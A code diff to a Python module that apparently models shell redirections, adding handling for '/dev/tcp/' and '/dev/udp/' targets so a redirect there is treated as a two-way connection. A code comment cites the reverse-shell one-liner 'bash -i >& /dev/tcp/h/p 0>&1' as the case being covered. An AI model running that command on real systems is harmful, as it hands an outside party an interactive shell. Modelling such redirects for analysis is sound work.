@@ -125,7 +125,7 @@ def open_input(redirect: Redirect, expander: Expander) -> None:
 def from_file(path: Value, expander: Expander) -> tuple[Input, ...]:
     """`< path`: the text if it is known, a connection, or the file."""
     text = path.text or ""
-    if text.startswith(("/dev/tcp/", "/dev/udp/")):
+    if text.startswith(CONNECTIONS):
         return (Input("pipe", None, path, text, True),)
     content = expander.state.written(path)
     if content is not None:
@@ -164,6 +164,8 @@ def open_output(redirect: Redirect, expander: Expander) -> None:
         return
     paths = tuple([path for path in target if report(redirect, path, expander)])
     channel = Channel("file", (NO_INPUT,), paths, ">>" in redirect.operator) if paths else special(name)
+    if not paths and (name or "").startswith(CONNECTIONS):  # bash -i >& /dev/tcp/h/p 0>&1
+        channel = channel.replace(inputs=from_file(target[0], expander))
     if redirect.operator == "<>":
         channel = channel.replace(inputs=from_file(target[0], expander))
     state.open(descriptor, channel)
@@ -204,7 +206,8 @@ def report(redirect: Redirect, path: Value, expander: Expander) -> bool:
     return True
 
 
-DEVICES = ("/dev/fd/", "/proc/self/fd/", "/dev/tcp/", "/dev/udp/")
+CONNECTIONS = ("/dev/tcp/", "/dev/udp/")
+DEVICES = ("/dev/fd/", "/proc/self/fd/", *CONNECTIONS)
 
 
 def number(redirect: Redirect, usual: str, expander: Expander) -> str:
